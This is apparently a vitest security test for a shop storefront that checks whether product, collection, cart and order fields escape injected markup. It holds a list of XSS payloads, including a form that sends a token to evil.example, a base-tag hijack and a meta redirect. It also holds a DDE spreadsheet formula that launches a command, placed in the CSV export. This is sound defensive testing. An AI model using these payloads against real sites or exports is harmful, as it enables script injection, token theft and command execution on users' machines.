import { beforeAll, describe, expect, it } from "vitest";
import { api, page } from "../support/api.ts";
import { activeParts, pageFlaws } from "../support/page-flaws.ts";
import { checkOut, fillCart } from "../support/shopper.ts";

describe("what somebody else wrote", () => {
  const payloads = [
    "<script>xss()</script>",
    "<img src=x onerror=xss()>",
    '"><svg onload=xss()>',
    "' onmouseover='xss()",
    "</script><script>xss()</script>",
    "</title></style></textarea><script>xss()</script>",
    "<a href=javascript:xss()>x</a>",
    "<a href=' java\nscript:xss()'>x</a>",
    "<iframe srcdoc='<script>xss()</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<!--><script>xss()</script>-->",
    "#{xss()}{{xss()}}",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "<p style='background:url(javascript:xss())' onclick=xss()>x</p>",
    "\u2028xss()\u2029",
    "<form action=https://evil.example><input name=token></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  ];
  const text = payloads.join(" ").slice(0, 4_000);
  const title = (i: number) => payloads[i]?.slice(0, 250) ?? "";
  const seen: [string, () => string, Record<string, string>][] = [];

  /** A product that says the payload wherever it can say something. */
  const product = (i: number) => {
    const seo = { title: title(2), description: title(4) };
    return {
      handle: `xss-${i}`,
      title: title(i),
      description_html: text,
      vendor: title(i),
      type: title(i),
      tags: [title(i).replaceAll(",", "")],
      status: "active",
      options: [{ name: title(i) }],
      seo: i % 2 ? seo : undefined,
      images: [{ src: '/x.jpg"onerror=xss()', alt: title(i) }],
      translations: {
        "zh-CN": { title: title(i), description_html: text, seo, options: { [title(i)]: title(i) } },
      },
      variants: [{ sku: `XSS-${i}`, options: [title(i)], price: { amount: 100, currency: "EUR" }, on_hand: 5 }],
    };
  };

  beforeAll(async () => {
    const shop = "acme";
    for (const i of payloads.keys()) {
      const body = product(i);
      const made = await api("POST", "/products", { shop, body });
      expect(made.status, made.text).toBe(201);
      seen.push(
        [`/products/xss-${i}`, () => `/products/xss-${i}`, {}],
        [`/products/xss-${i}?lang=zh`, () => `/products/xss-${i}?lang=zh`, {}],
      );
    }
    const product_handles = [...payloads.keys()].map((i) => `xss-${i}`);
    await api("POST", "/collections", {
      shop,
      body: {
        handle: "xss",
        title: text.slice(0, 255),
        description_html: text,
        image: { src: "/y.jpg'onerror='xss()", alt: title(1) },
        product_handles,
      },
    });
    const cart = await fillCart({ "XSS-0": 1, "XSS-3": 1 }, shop);
    const address = Object.fromEntries(
      ["name", "line1", "line2", "city", "region"].map((name, i) => [name, title(i).slice(0, 99)]),
    );
    const cookie = `cart=${await fillCart({ "XSS-1": 1, "XSS-2": 1 }, shop)}`;
    const placed = await checkOut(cart, { shop, body: { shipping_address: { ...address, country: "DE" } } });
    expect(placed.status, placed.text).toBe(201);
    const { order, order_token, payment } = placed.body;
    seen.push(["/cart", () => "/cart", { cookie }], ["/checkout", () => "/checkout", { cookie }]);
    for (const path of [
      "/",
      "/collections/xss",
      "/collections/xss?lang=zh",
      `/orders/${order.id}?token=${order_token}`,
      payment.redirect_url,
      "/sitemap.xml",
      "/sitemaps/pages.xml",
      "/sitemaps/products.xml",
      "/feeds/new.rss",
      "/feeds/merchant.xml",
      "/llms.txt",
    ])
      seen.push([path, () => path, {}]);
  });

  it("is shown as text, never run: on pages, in attributes and in structured data", async () => {
    const flaws: string[] = [];
    for (const [name, path, headers] of seen) {
      const answer = await page("GET", path(), { shop: "acme", headers });
      if (answer.status !== 200) flaws.push(`${name} answers ${answer.status}`);
      flaws.push(
        ...pageFlaws(answer).map((flaw) => `${name} ${flaw}`),
        ...(await activeParts(answer)).map((flaw) => `${name} ${flaw}`),
      );
    }
    expect(flaws).toEqual([]);
    expect((await page("GET", "/products/xss-0", { shop: "acme" })).text).toContain("&lt;script&gt;xss()");
  });

  it("may be an address that is none: the page stands", async () => {
    const sources = [
      "http://[",
      "https://%",
      "//[",
      "https://x:99999/",
      "/%zz",
      "http://",
      "https://",
      "/\\evil.example/x.png",
    ];
    const statuses: [string, number][] = [];
    for (const [i, src] of sources.entries()) {
      const body = {
        handle: `odd-${i}`,
        title: "Odd",
        status: "active",
        images: [{ src }],
        variants: [{ sku: `ODD-${i}`, price: { amount: 1, currency: "EUR" } }],
      };
      const made = await api("POST", "/products", { shop: "acme", body });
      statuses.push([
        src,
        made.status === 201 ? (await page("GET", `/products/odd-${i}`, { shop: "acme" })).status : 200,
      ]);
    }
    expect(statuses).toEqual(sources.map((src) => [src, 200]));
  });

  it("goes into the file export as it came (docs/decisions/002)", async () => {
    const formula = "=cmd|' /C calc'!A0";
    await api("POST", "/products", {
      shop: "acme",
      body: { handle: "formula", title: formula, variants: [{ sku: "F-1", price: { amount: 1, currency: "EUR" } }] },
    });
    const file = await api("GET", "/catalog/export.csv", { shop: "acme" });
    expect(file.text).toContain(formula);
    expect(file.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(file.headers.get("x-content-type-options")).toBe("nosniff");
  });
});
